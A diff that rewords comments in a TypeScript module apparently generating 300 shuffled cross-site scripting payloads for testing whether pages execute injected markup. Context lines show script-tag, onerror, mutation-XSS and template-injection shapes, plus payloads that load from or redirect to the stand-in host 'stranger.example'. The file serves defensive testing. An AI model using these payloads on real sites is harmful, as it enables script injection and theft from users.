@@ -1,13 +1,13 @@
-/** A text that would do something if any screen took it for more than text. */
+/** A text that would have an effect if a screen interpreted it as more than text. */
 interface Payload {
   readonly number: number;
   readonly text: string;
 }
 
-/** Where payloads would call: a name that nobody can own. */
+/** Host that payloads would call: a name that cannot be registered. */
 export const foreignHost = 'stranger.example';
 
-/** `CODE` is what would run, without quotes, brackets or spaces that would end an attribute. */
+/** `CODE` is replaced by the code to run, without quotes, brackets or spaces that would end an attribute. */
 const shapes: readonly string[] = [
   // Tags
   '<script>CODE</script>',
@@ -102,7 +102,7 @@ const shapes: readonly string[] = [
   '$t(x, {"y":"<img src=x onerror=CODE>"})',
   '<Trans><img src=x onerror=CODE></Trans>',
   '__html:<img src=x onerror=CODE>',
-  // Markup that changes when it is read a second time
+  // Markup that changes when it is parsed a second time
   '<noscript><style></noscript><img src=x onerror=CODE></style>',
   '<math><mtext><table><mglyph><style><img src=x onerror=CODE></style>',
   '<svg></p><style><a id="</style><img src=x onerror=CODE>">',
@@ -125,7 +125,7 @@ const shapes: readonly string[] = [
   '`;CODE;//',
 ];
 
-/** What needs no code to do harm: it would load from `HOST`, or leave an element called `planted…` behind. */
+/** Payloads that need no code: they would load from `HOST`, or create an element called `planted…`. */
 const still: readonly string[] = [
   '<img src=HOST>',
   '<img srcset=HOST>',
@@ -159,7 +159,7 @@ const actions: readonly ((number: number) => string)[] = [
   (number) => `location=/\\/\\/${foreignHost}\\/${number}/.source`,
 ];
 
-/** The same list for the same seed (Fisher and Yates, with the numbers of a linear congruence). */
+/** Shuffles reproducibly (Fisher and Yates, with a linear congruential generator). */
 const shuffled = <One>(list: readonly One[], seed: number): One[] => {
   const result = [...list];
   let state = seed;
@@ -178,7 +178,7 @@ const all = [
   ),
 ];
 
-/** 300 payloads, each of its own kind and number, mixed. `__ran(number)` is the marker that pages offer them. */
+/** 300 payloads, each of its own kind and number, shuffled. `__ran(number)` is the marker that pages expose. */
 export const payloads: readonly Payload[] = shuffled(all, 20_261_121)
   .slice(0, 300)
   .map((spell, number) => ({ number, text: spell(number) }));
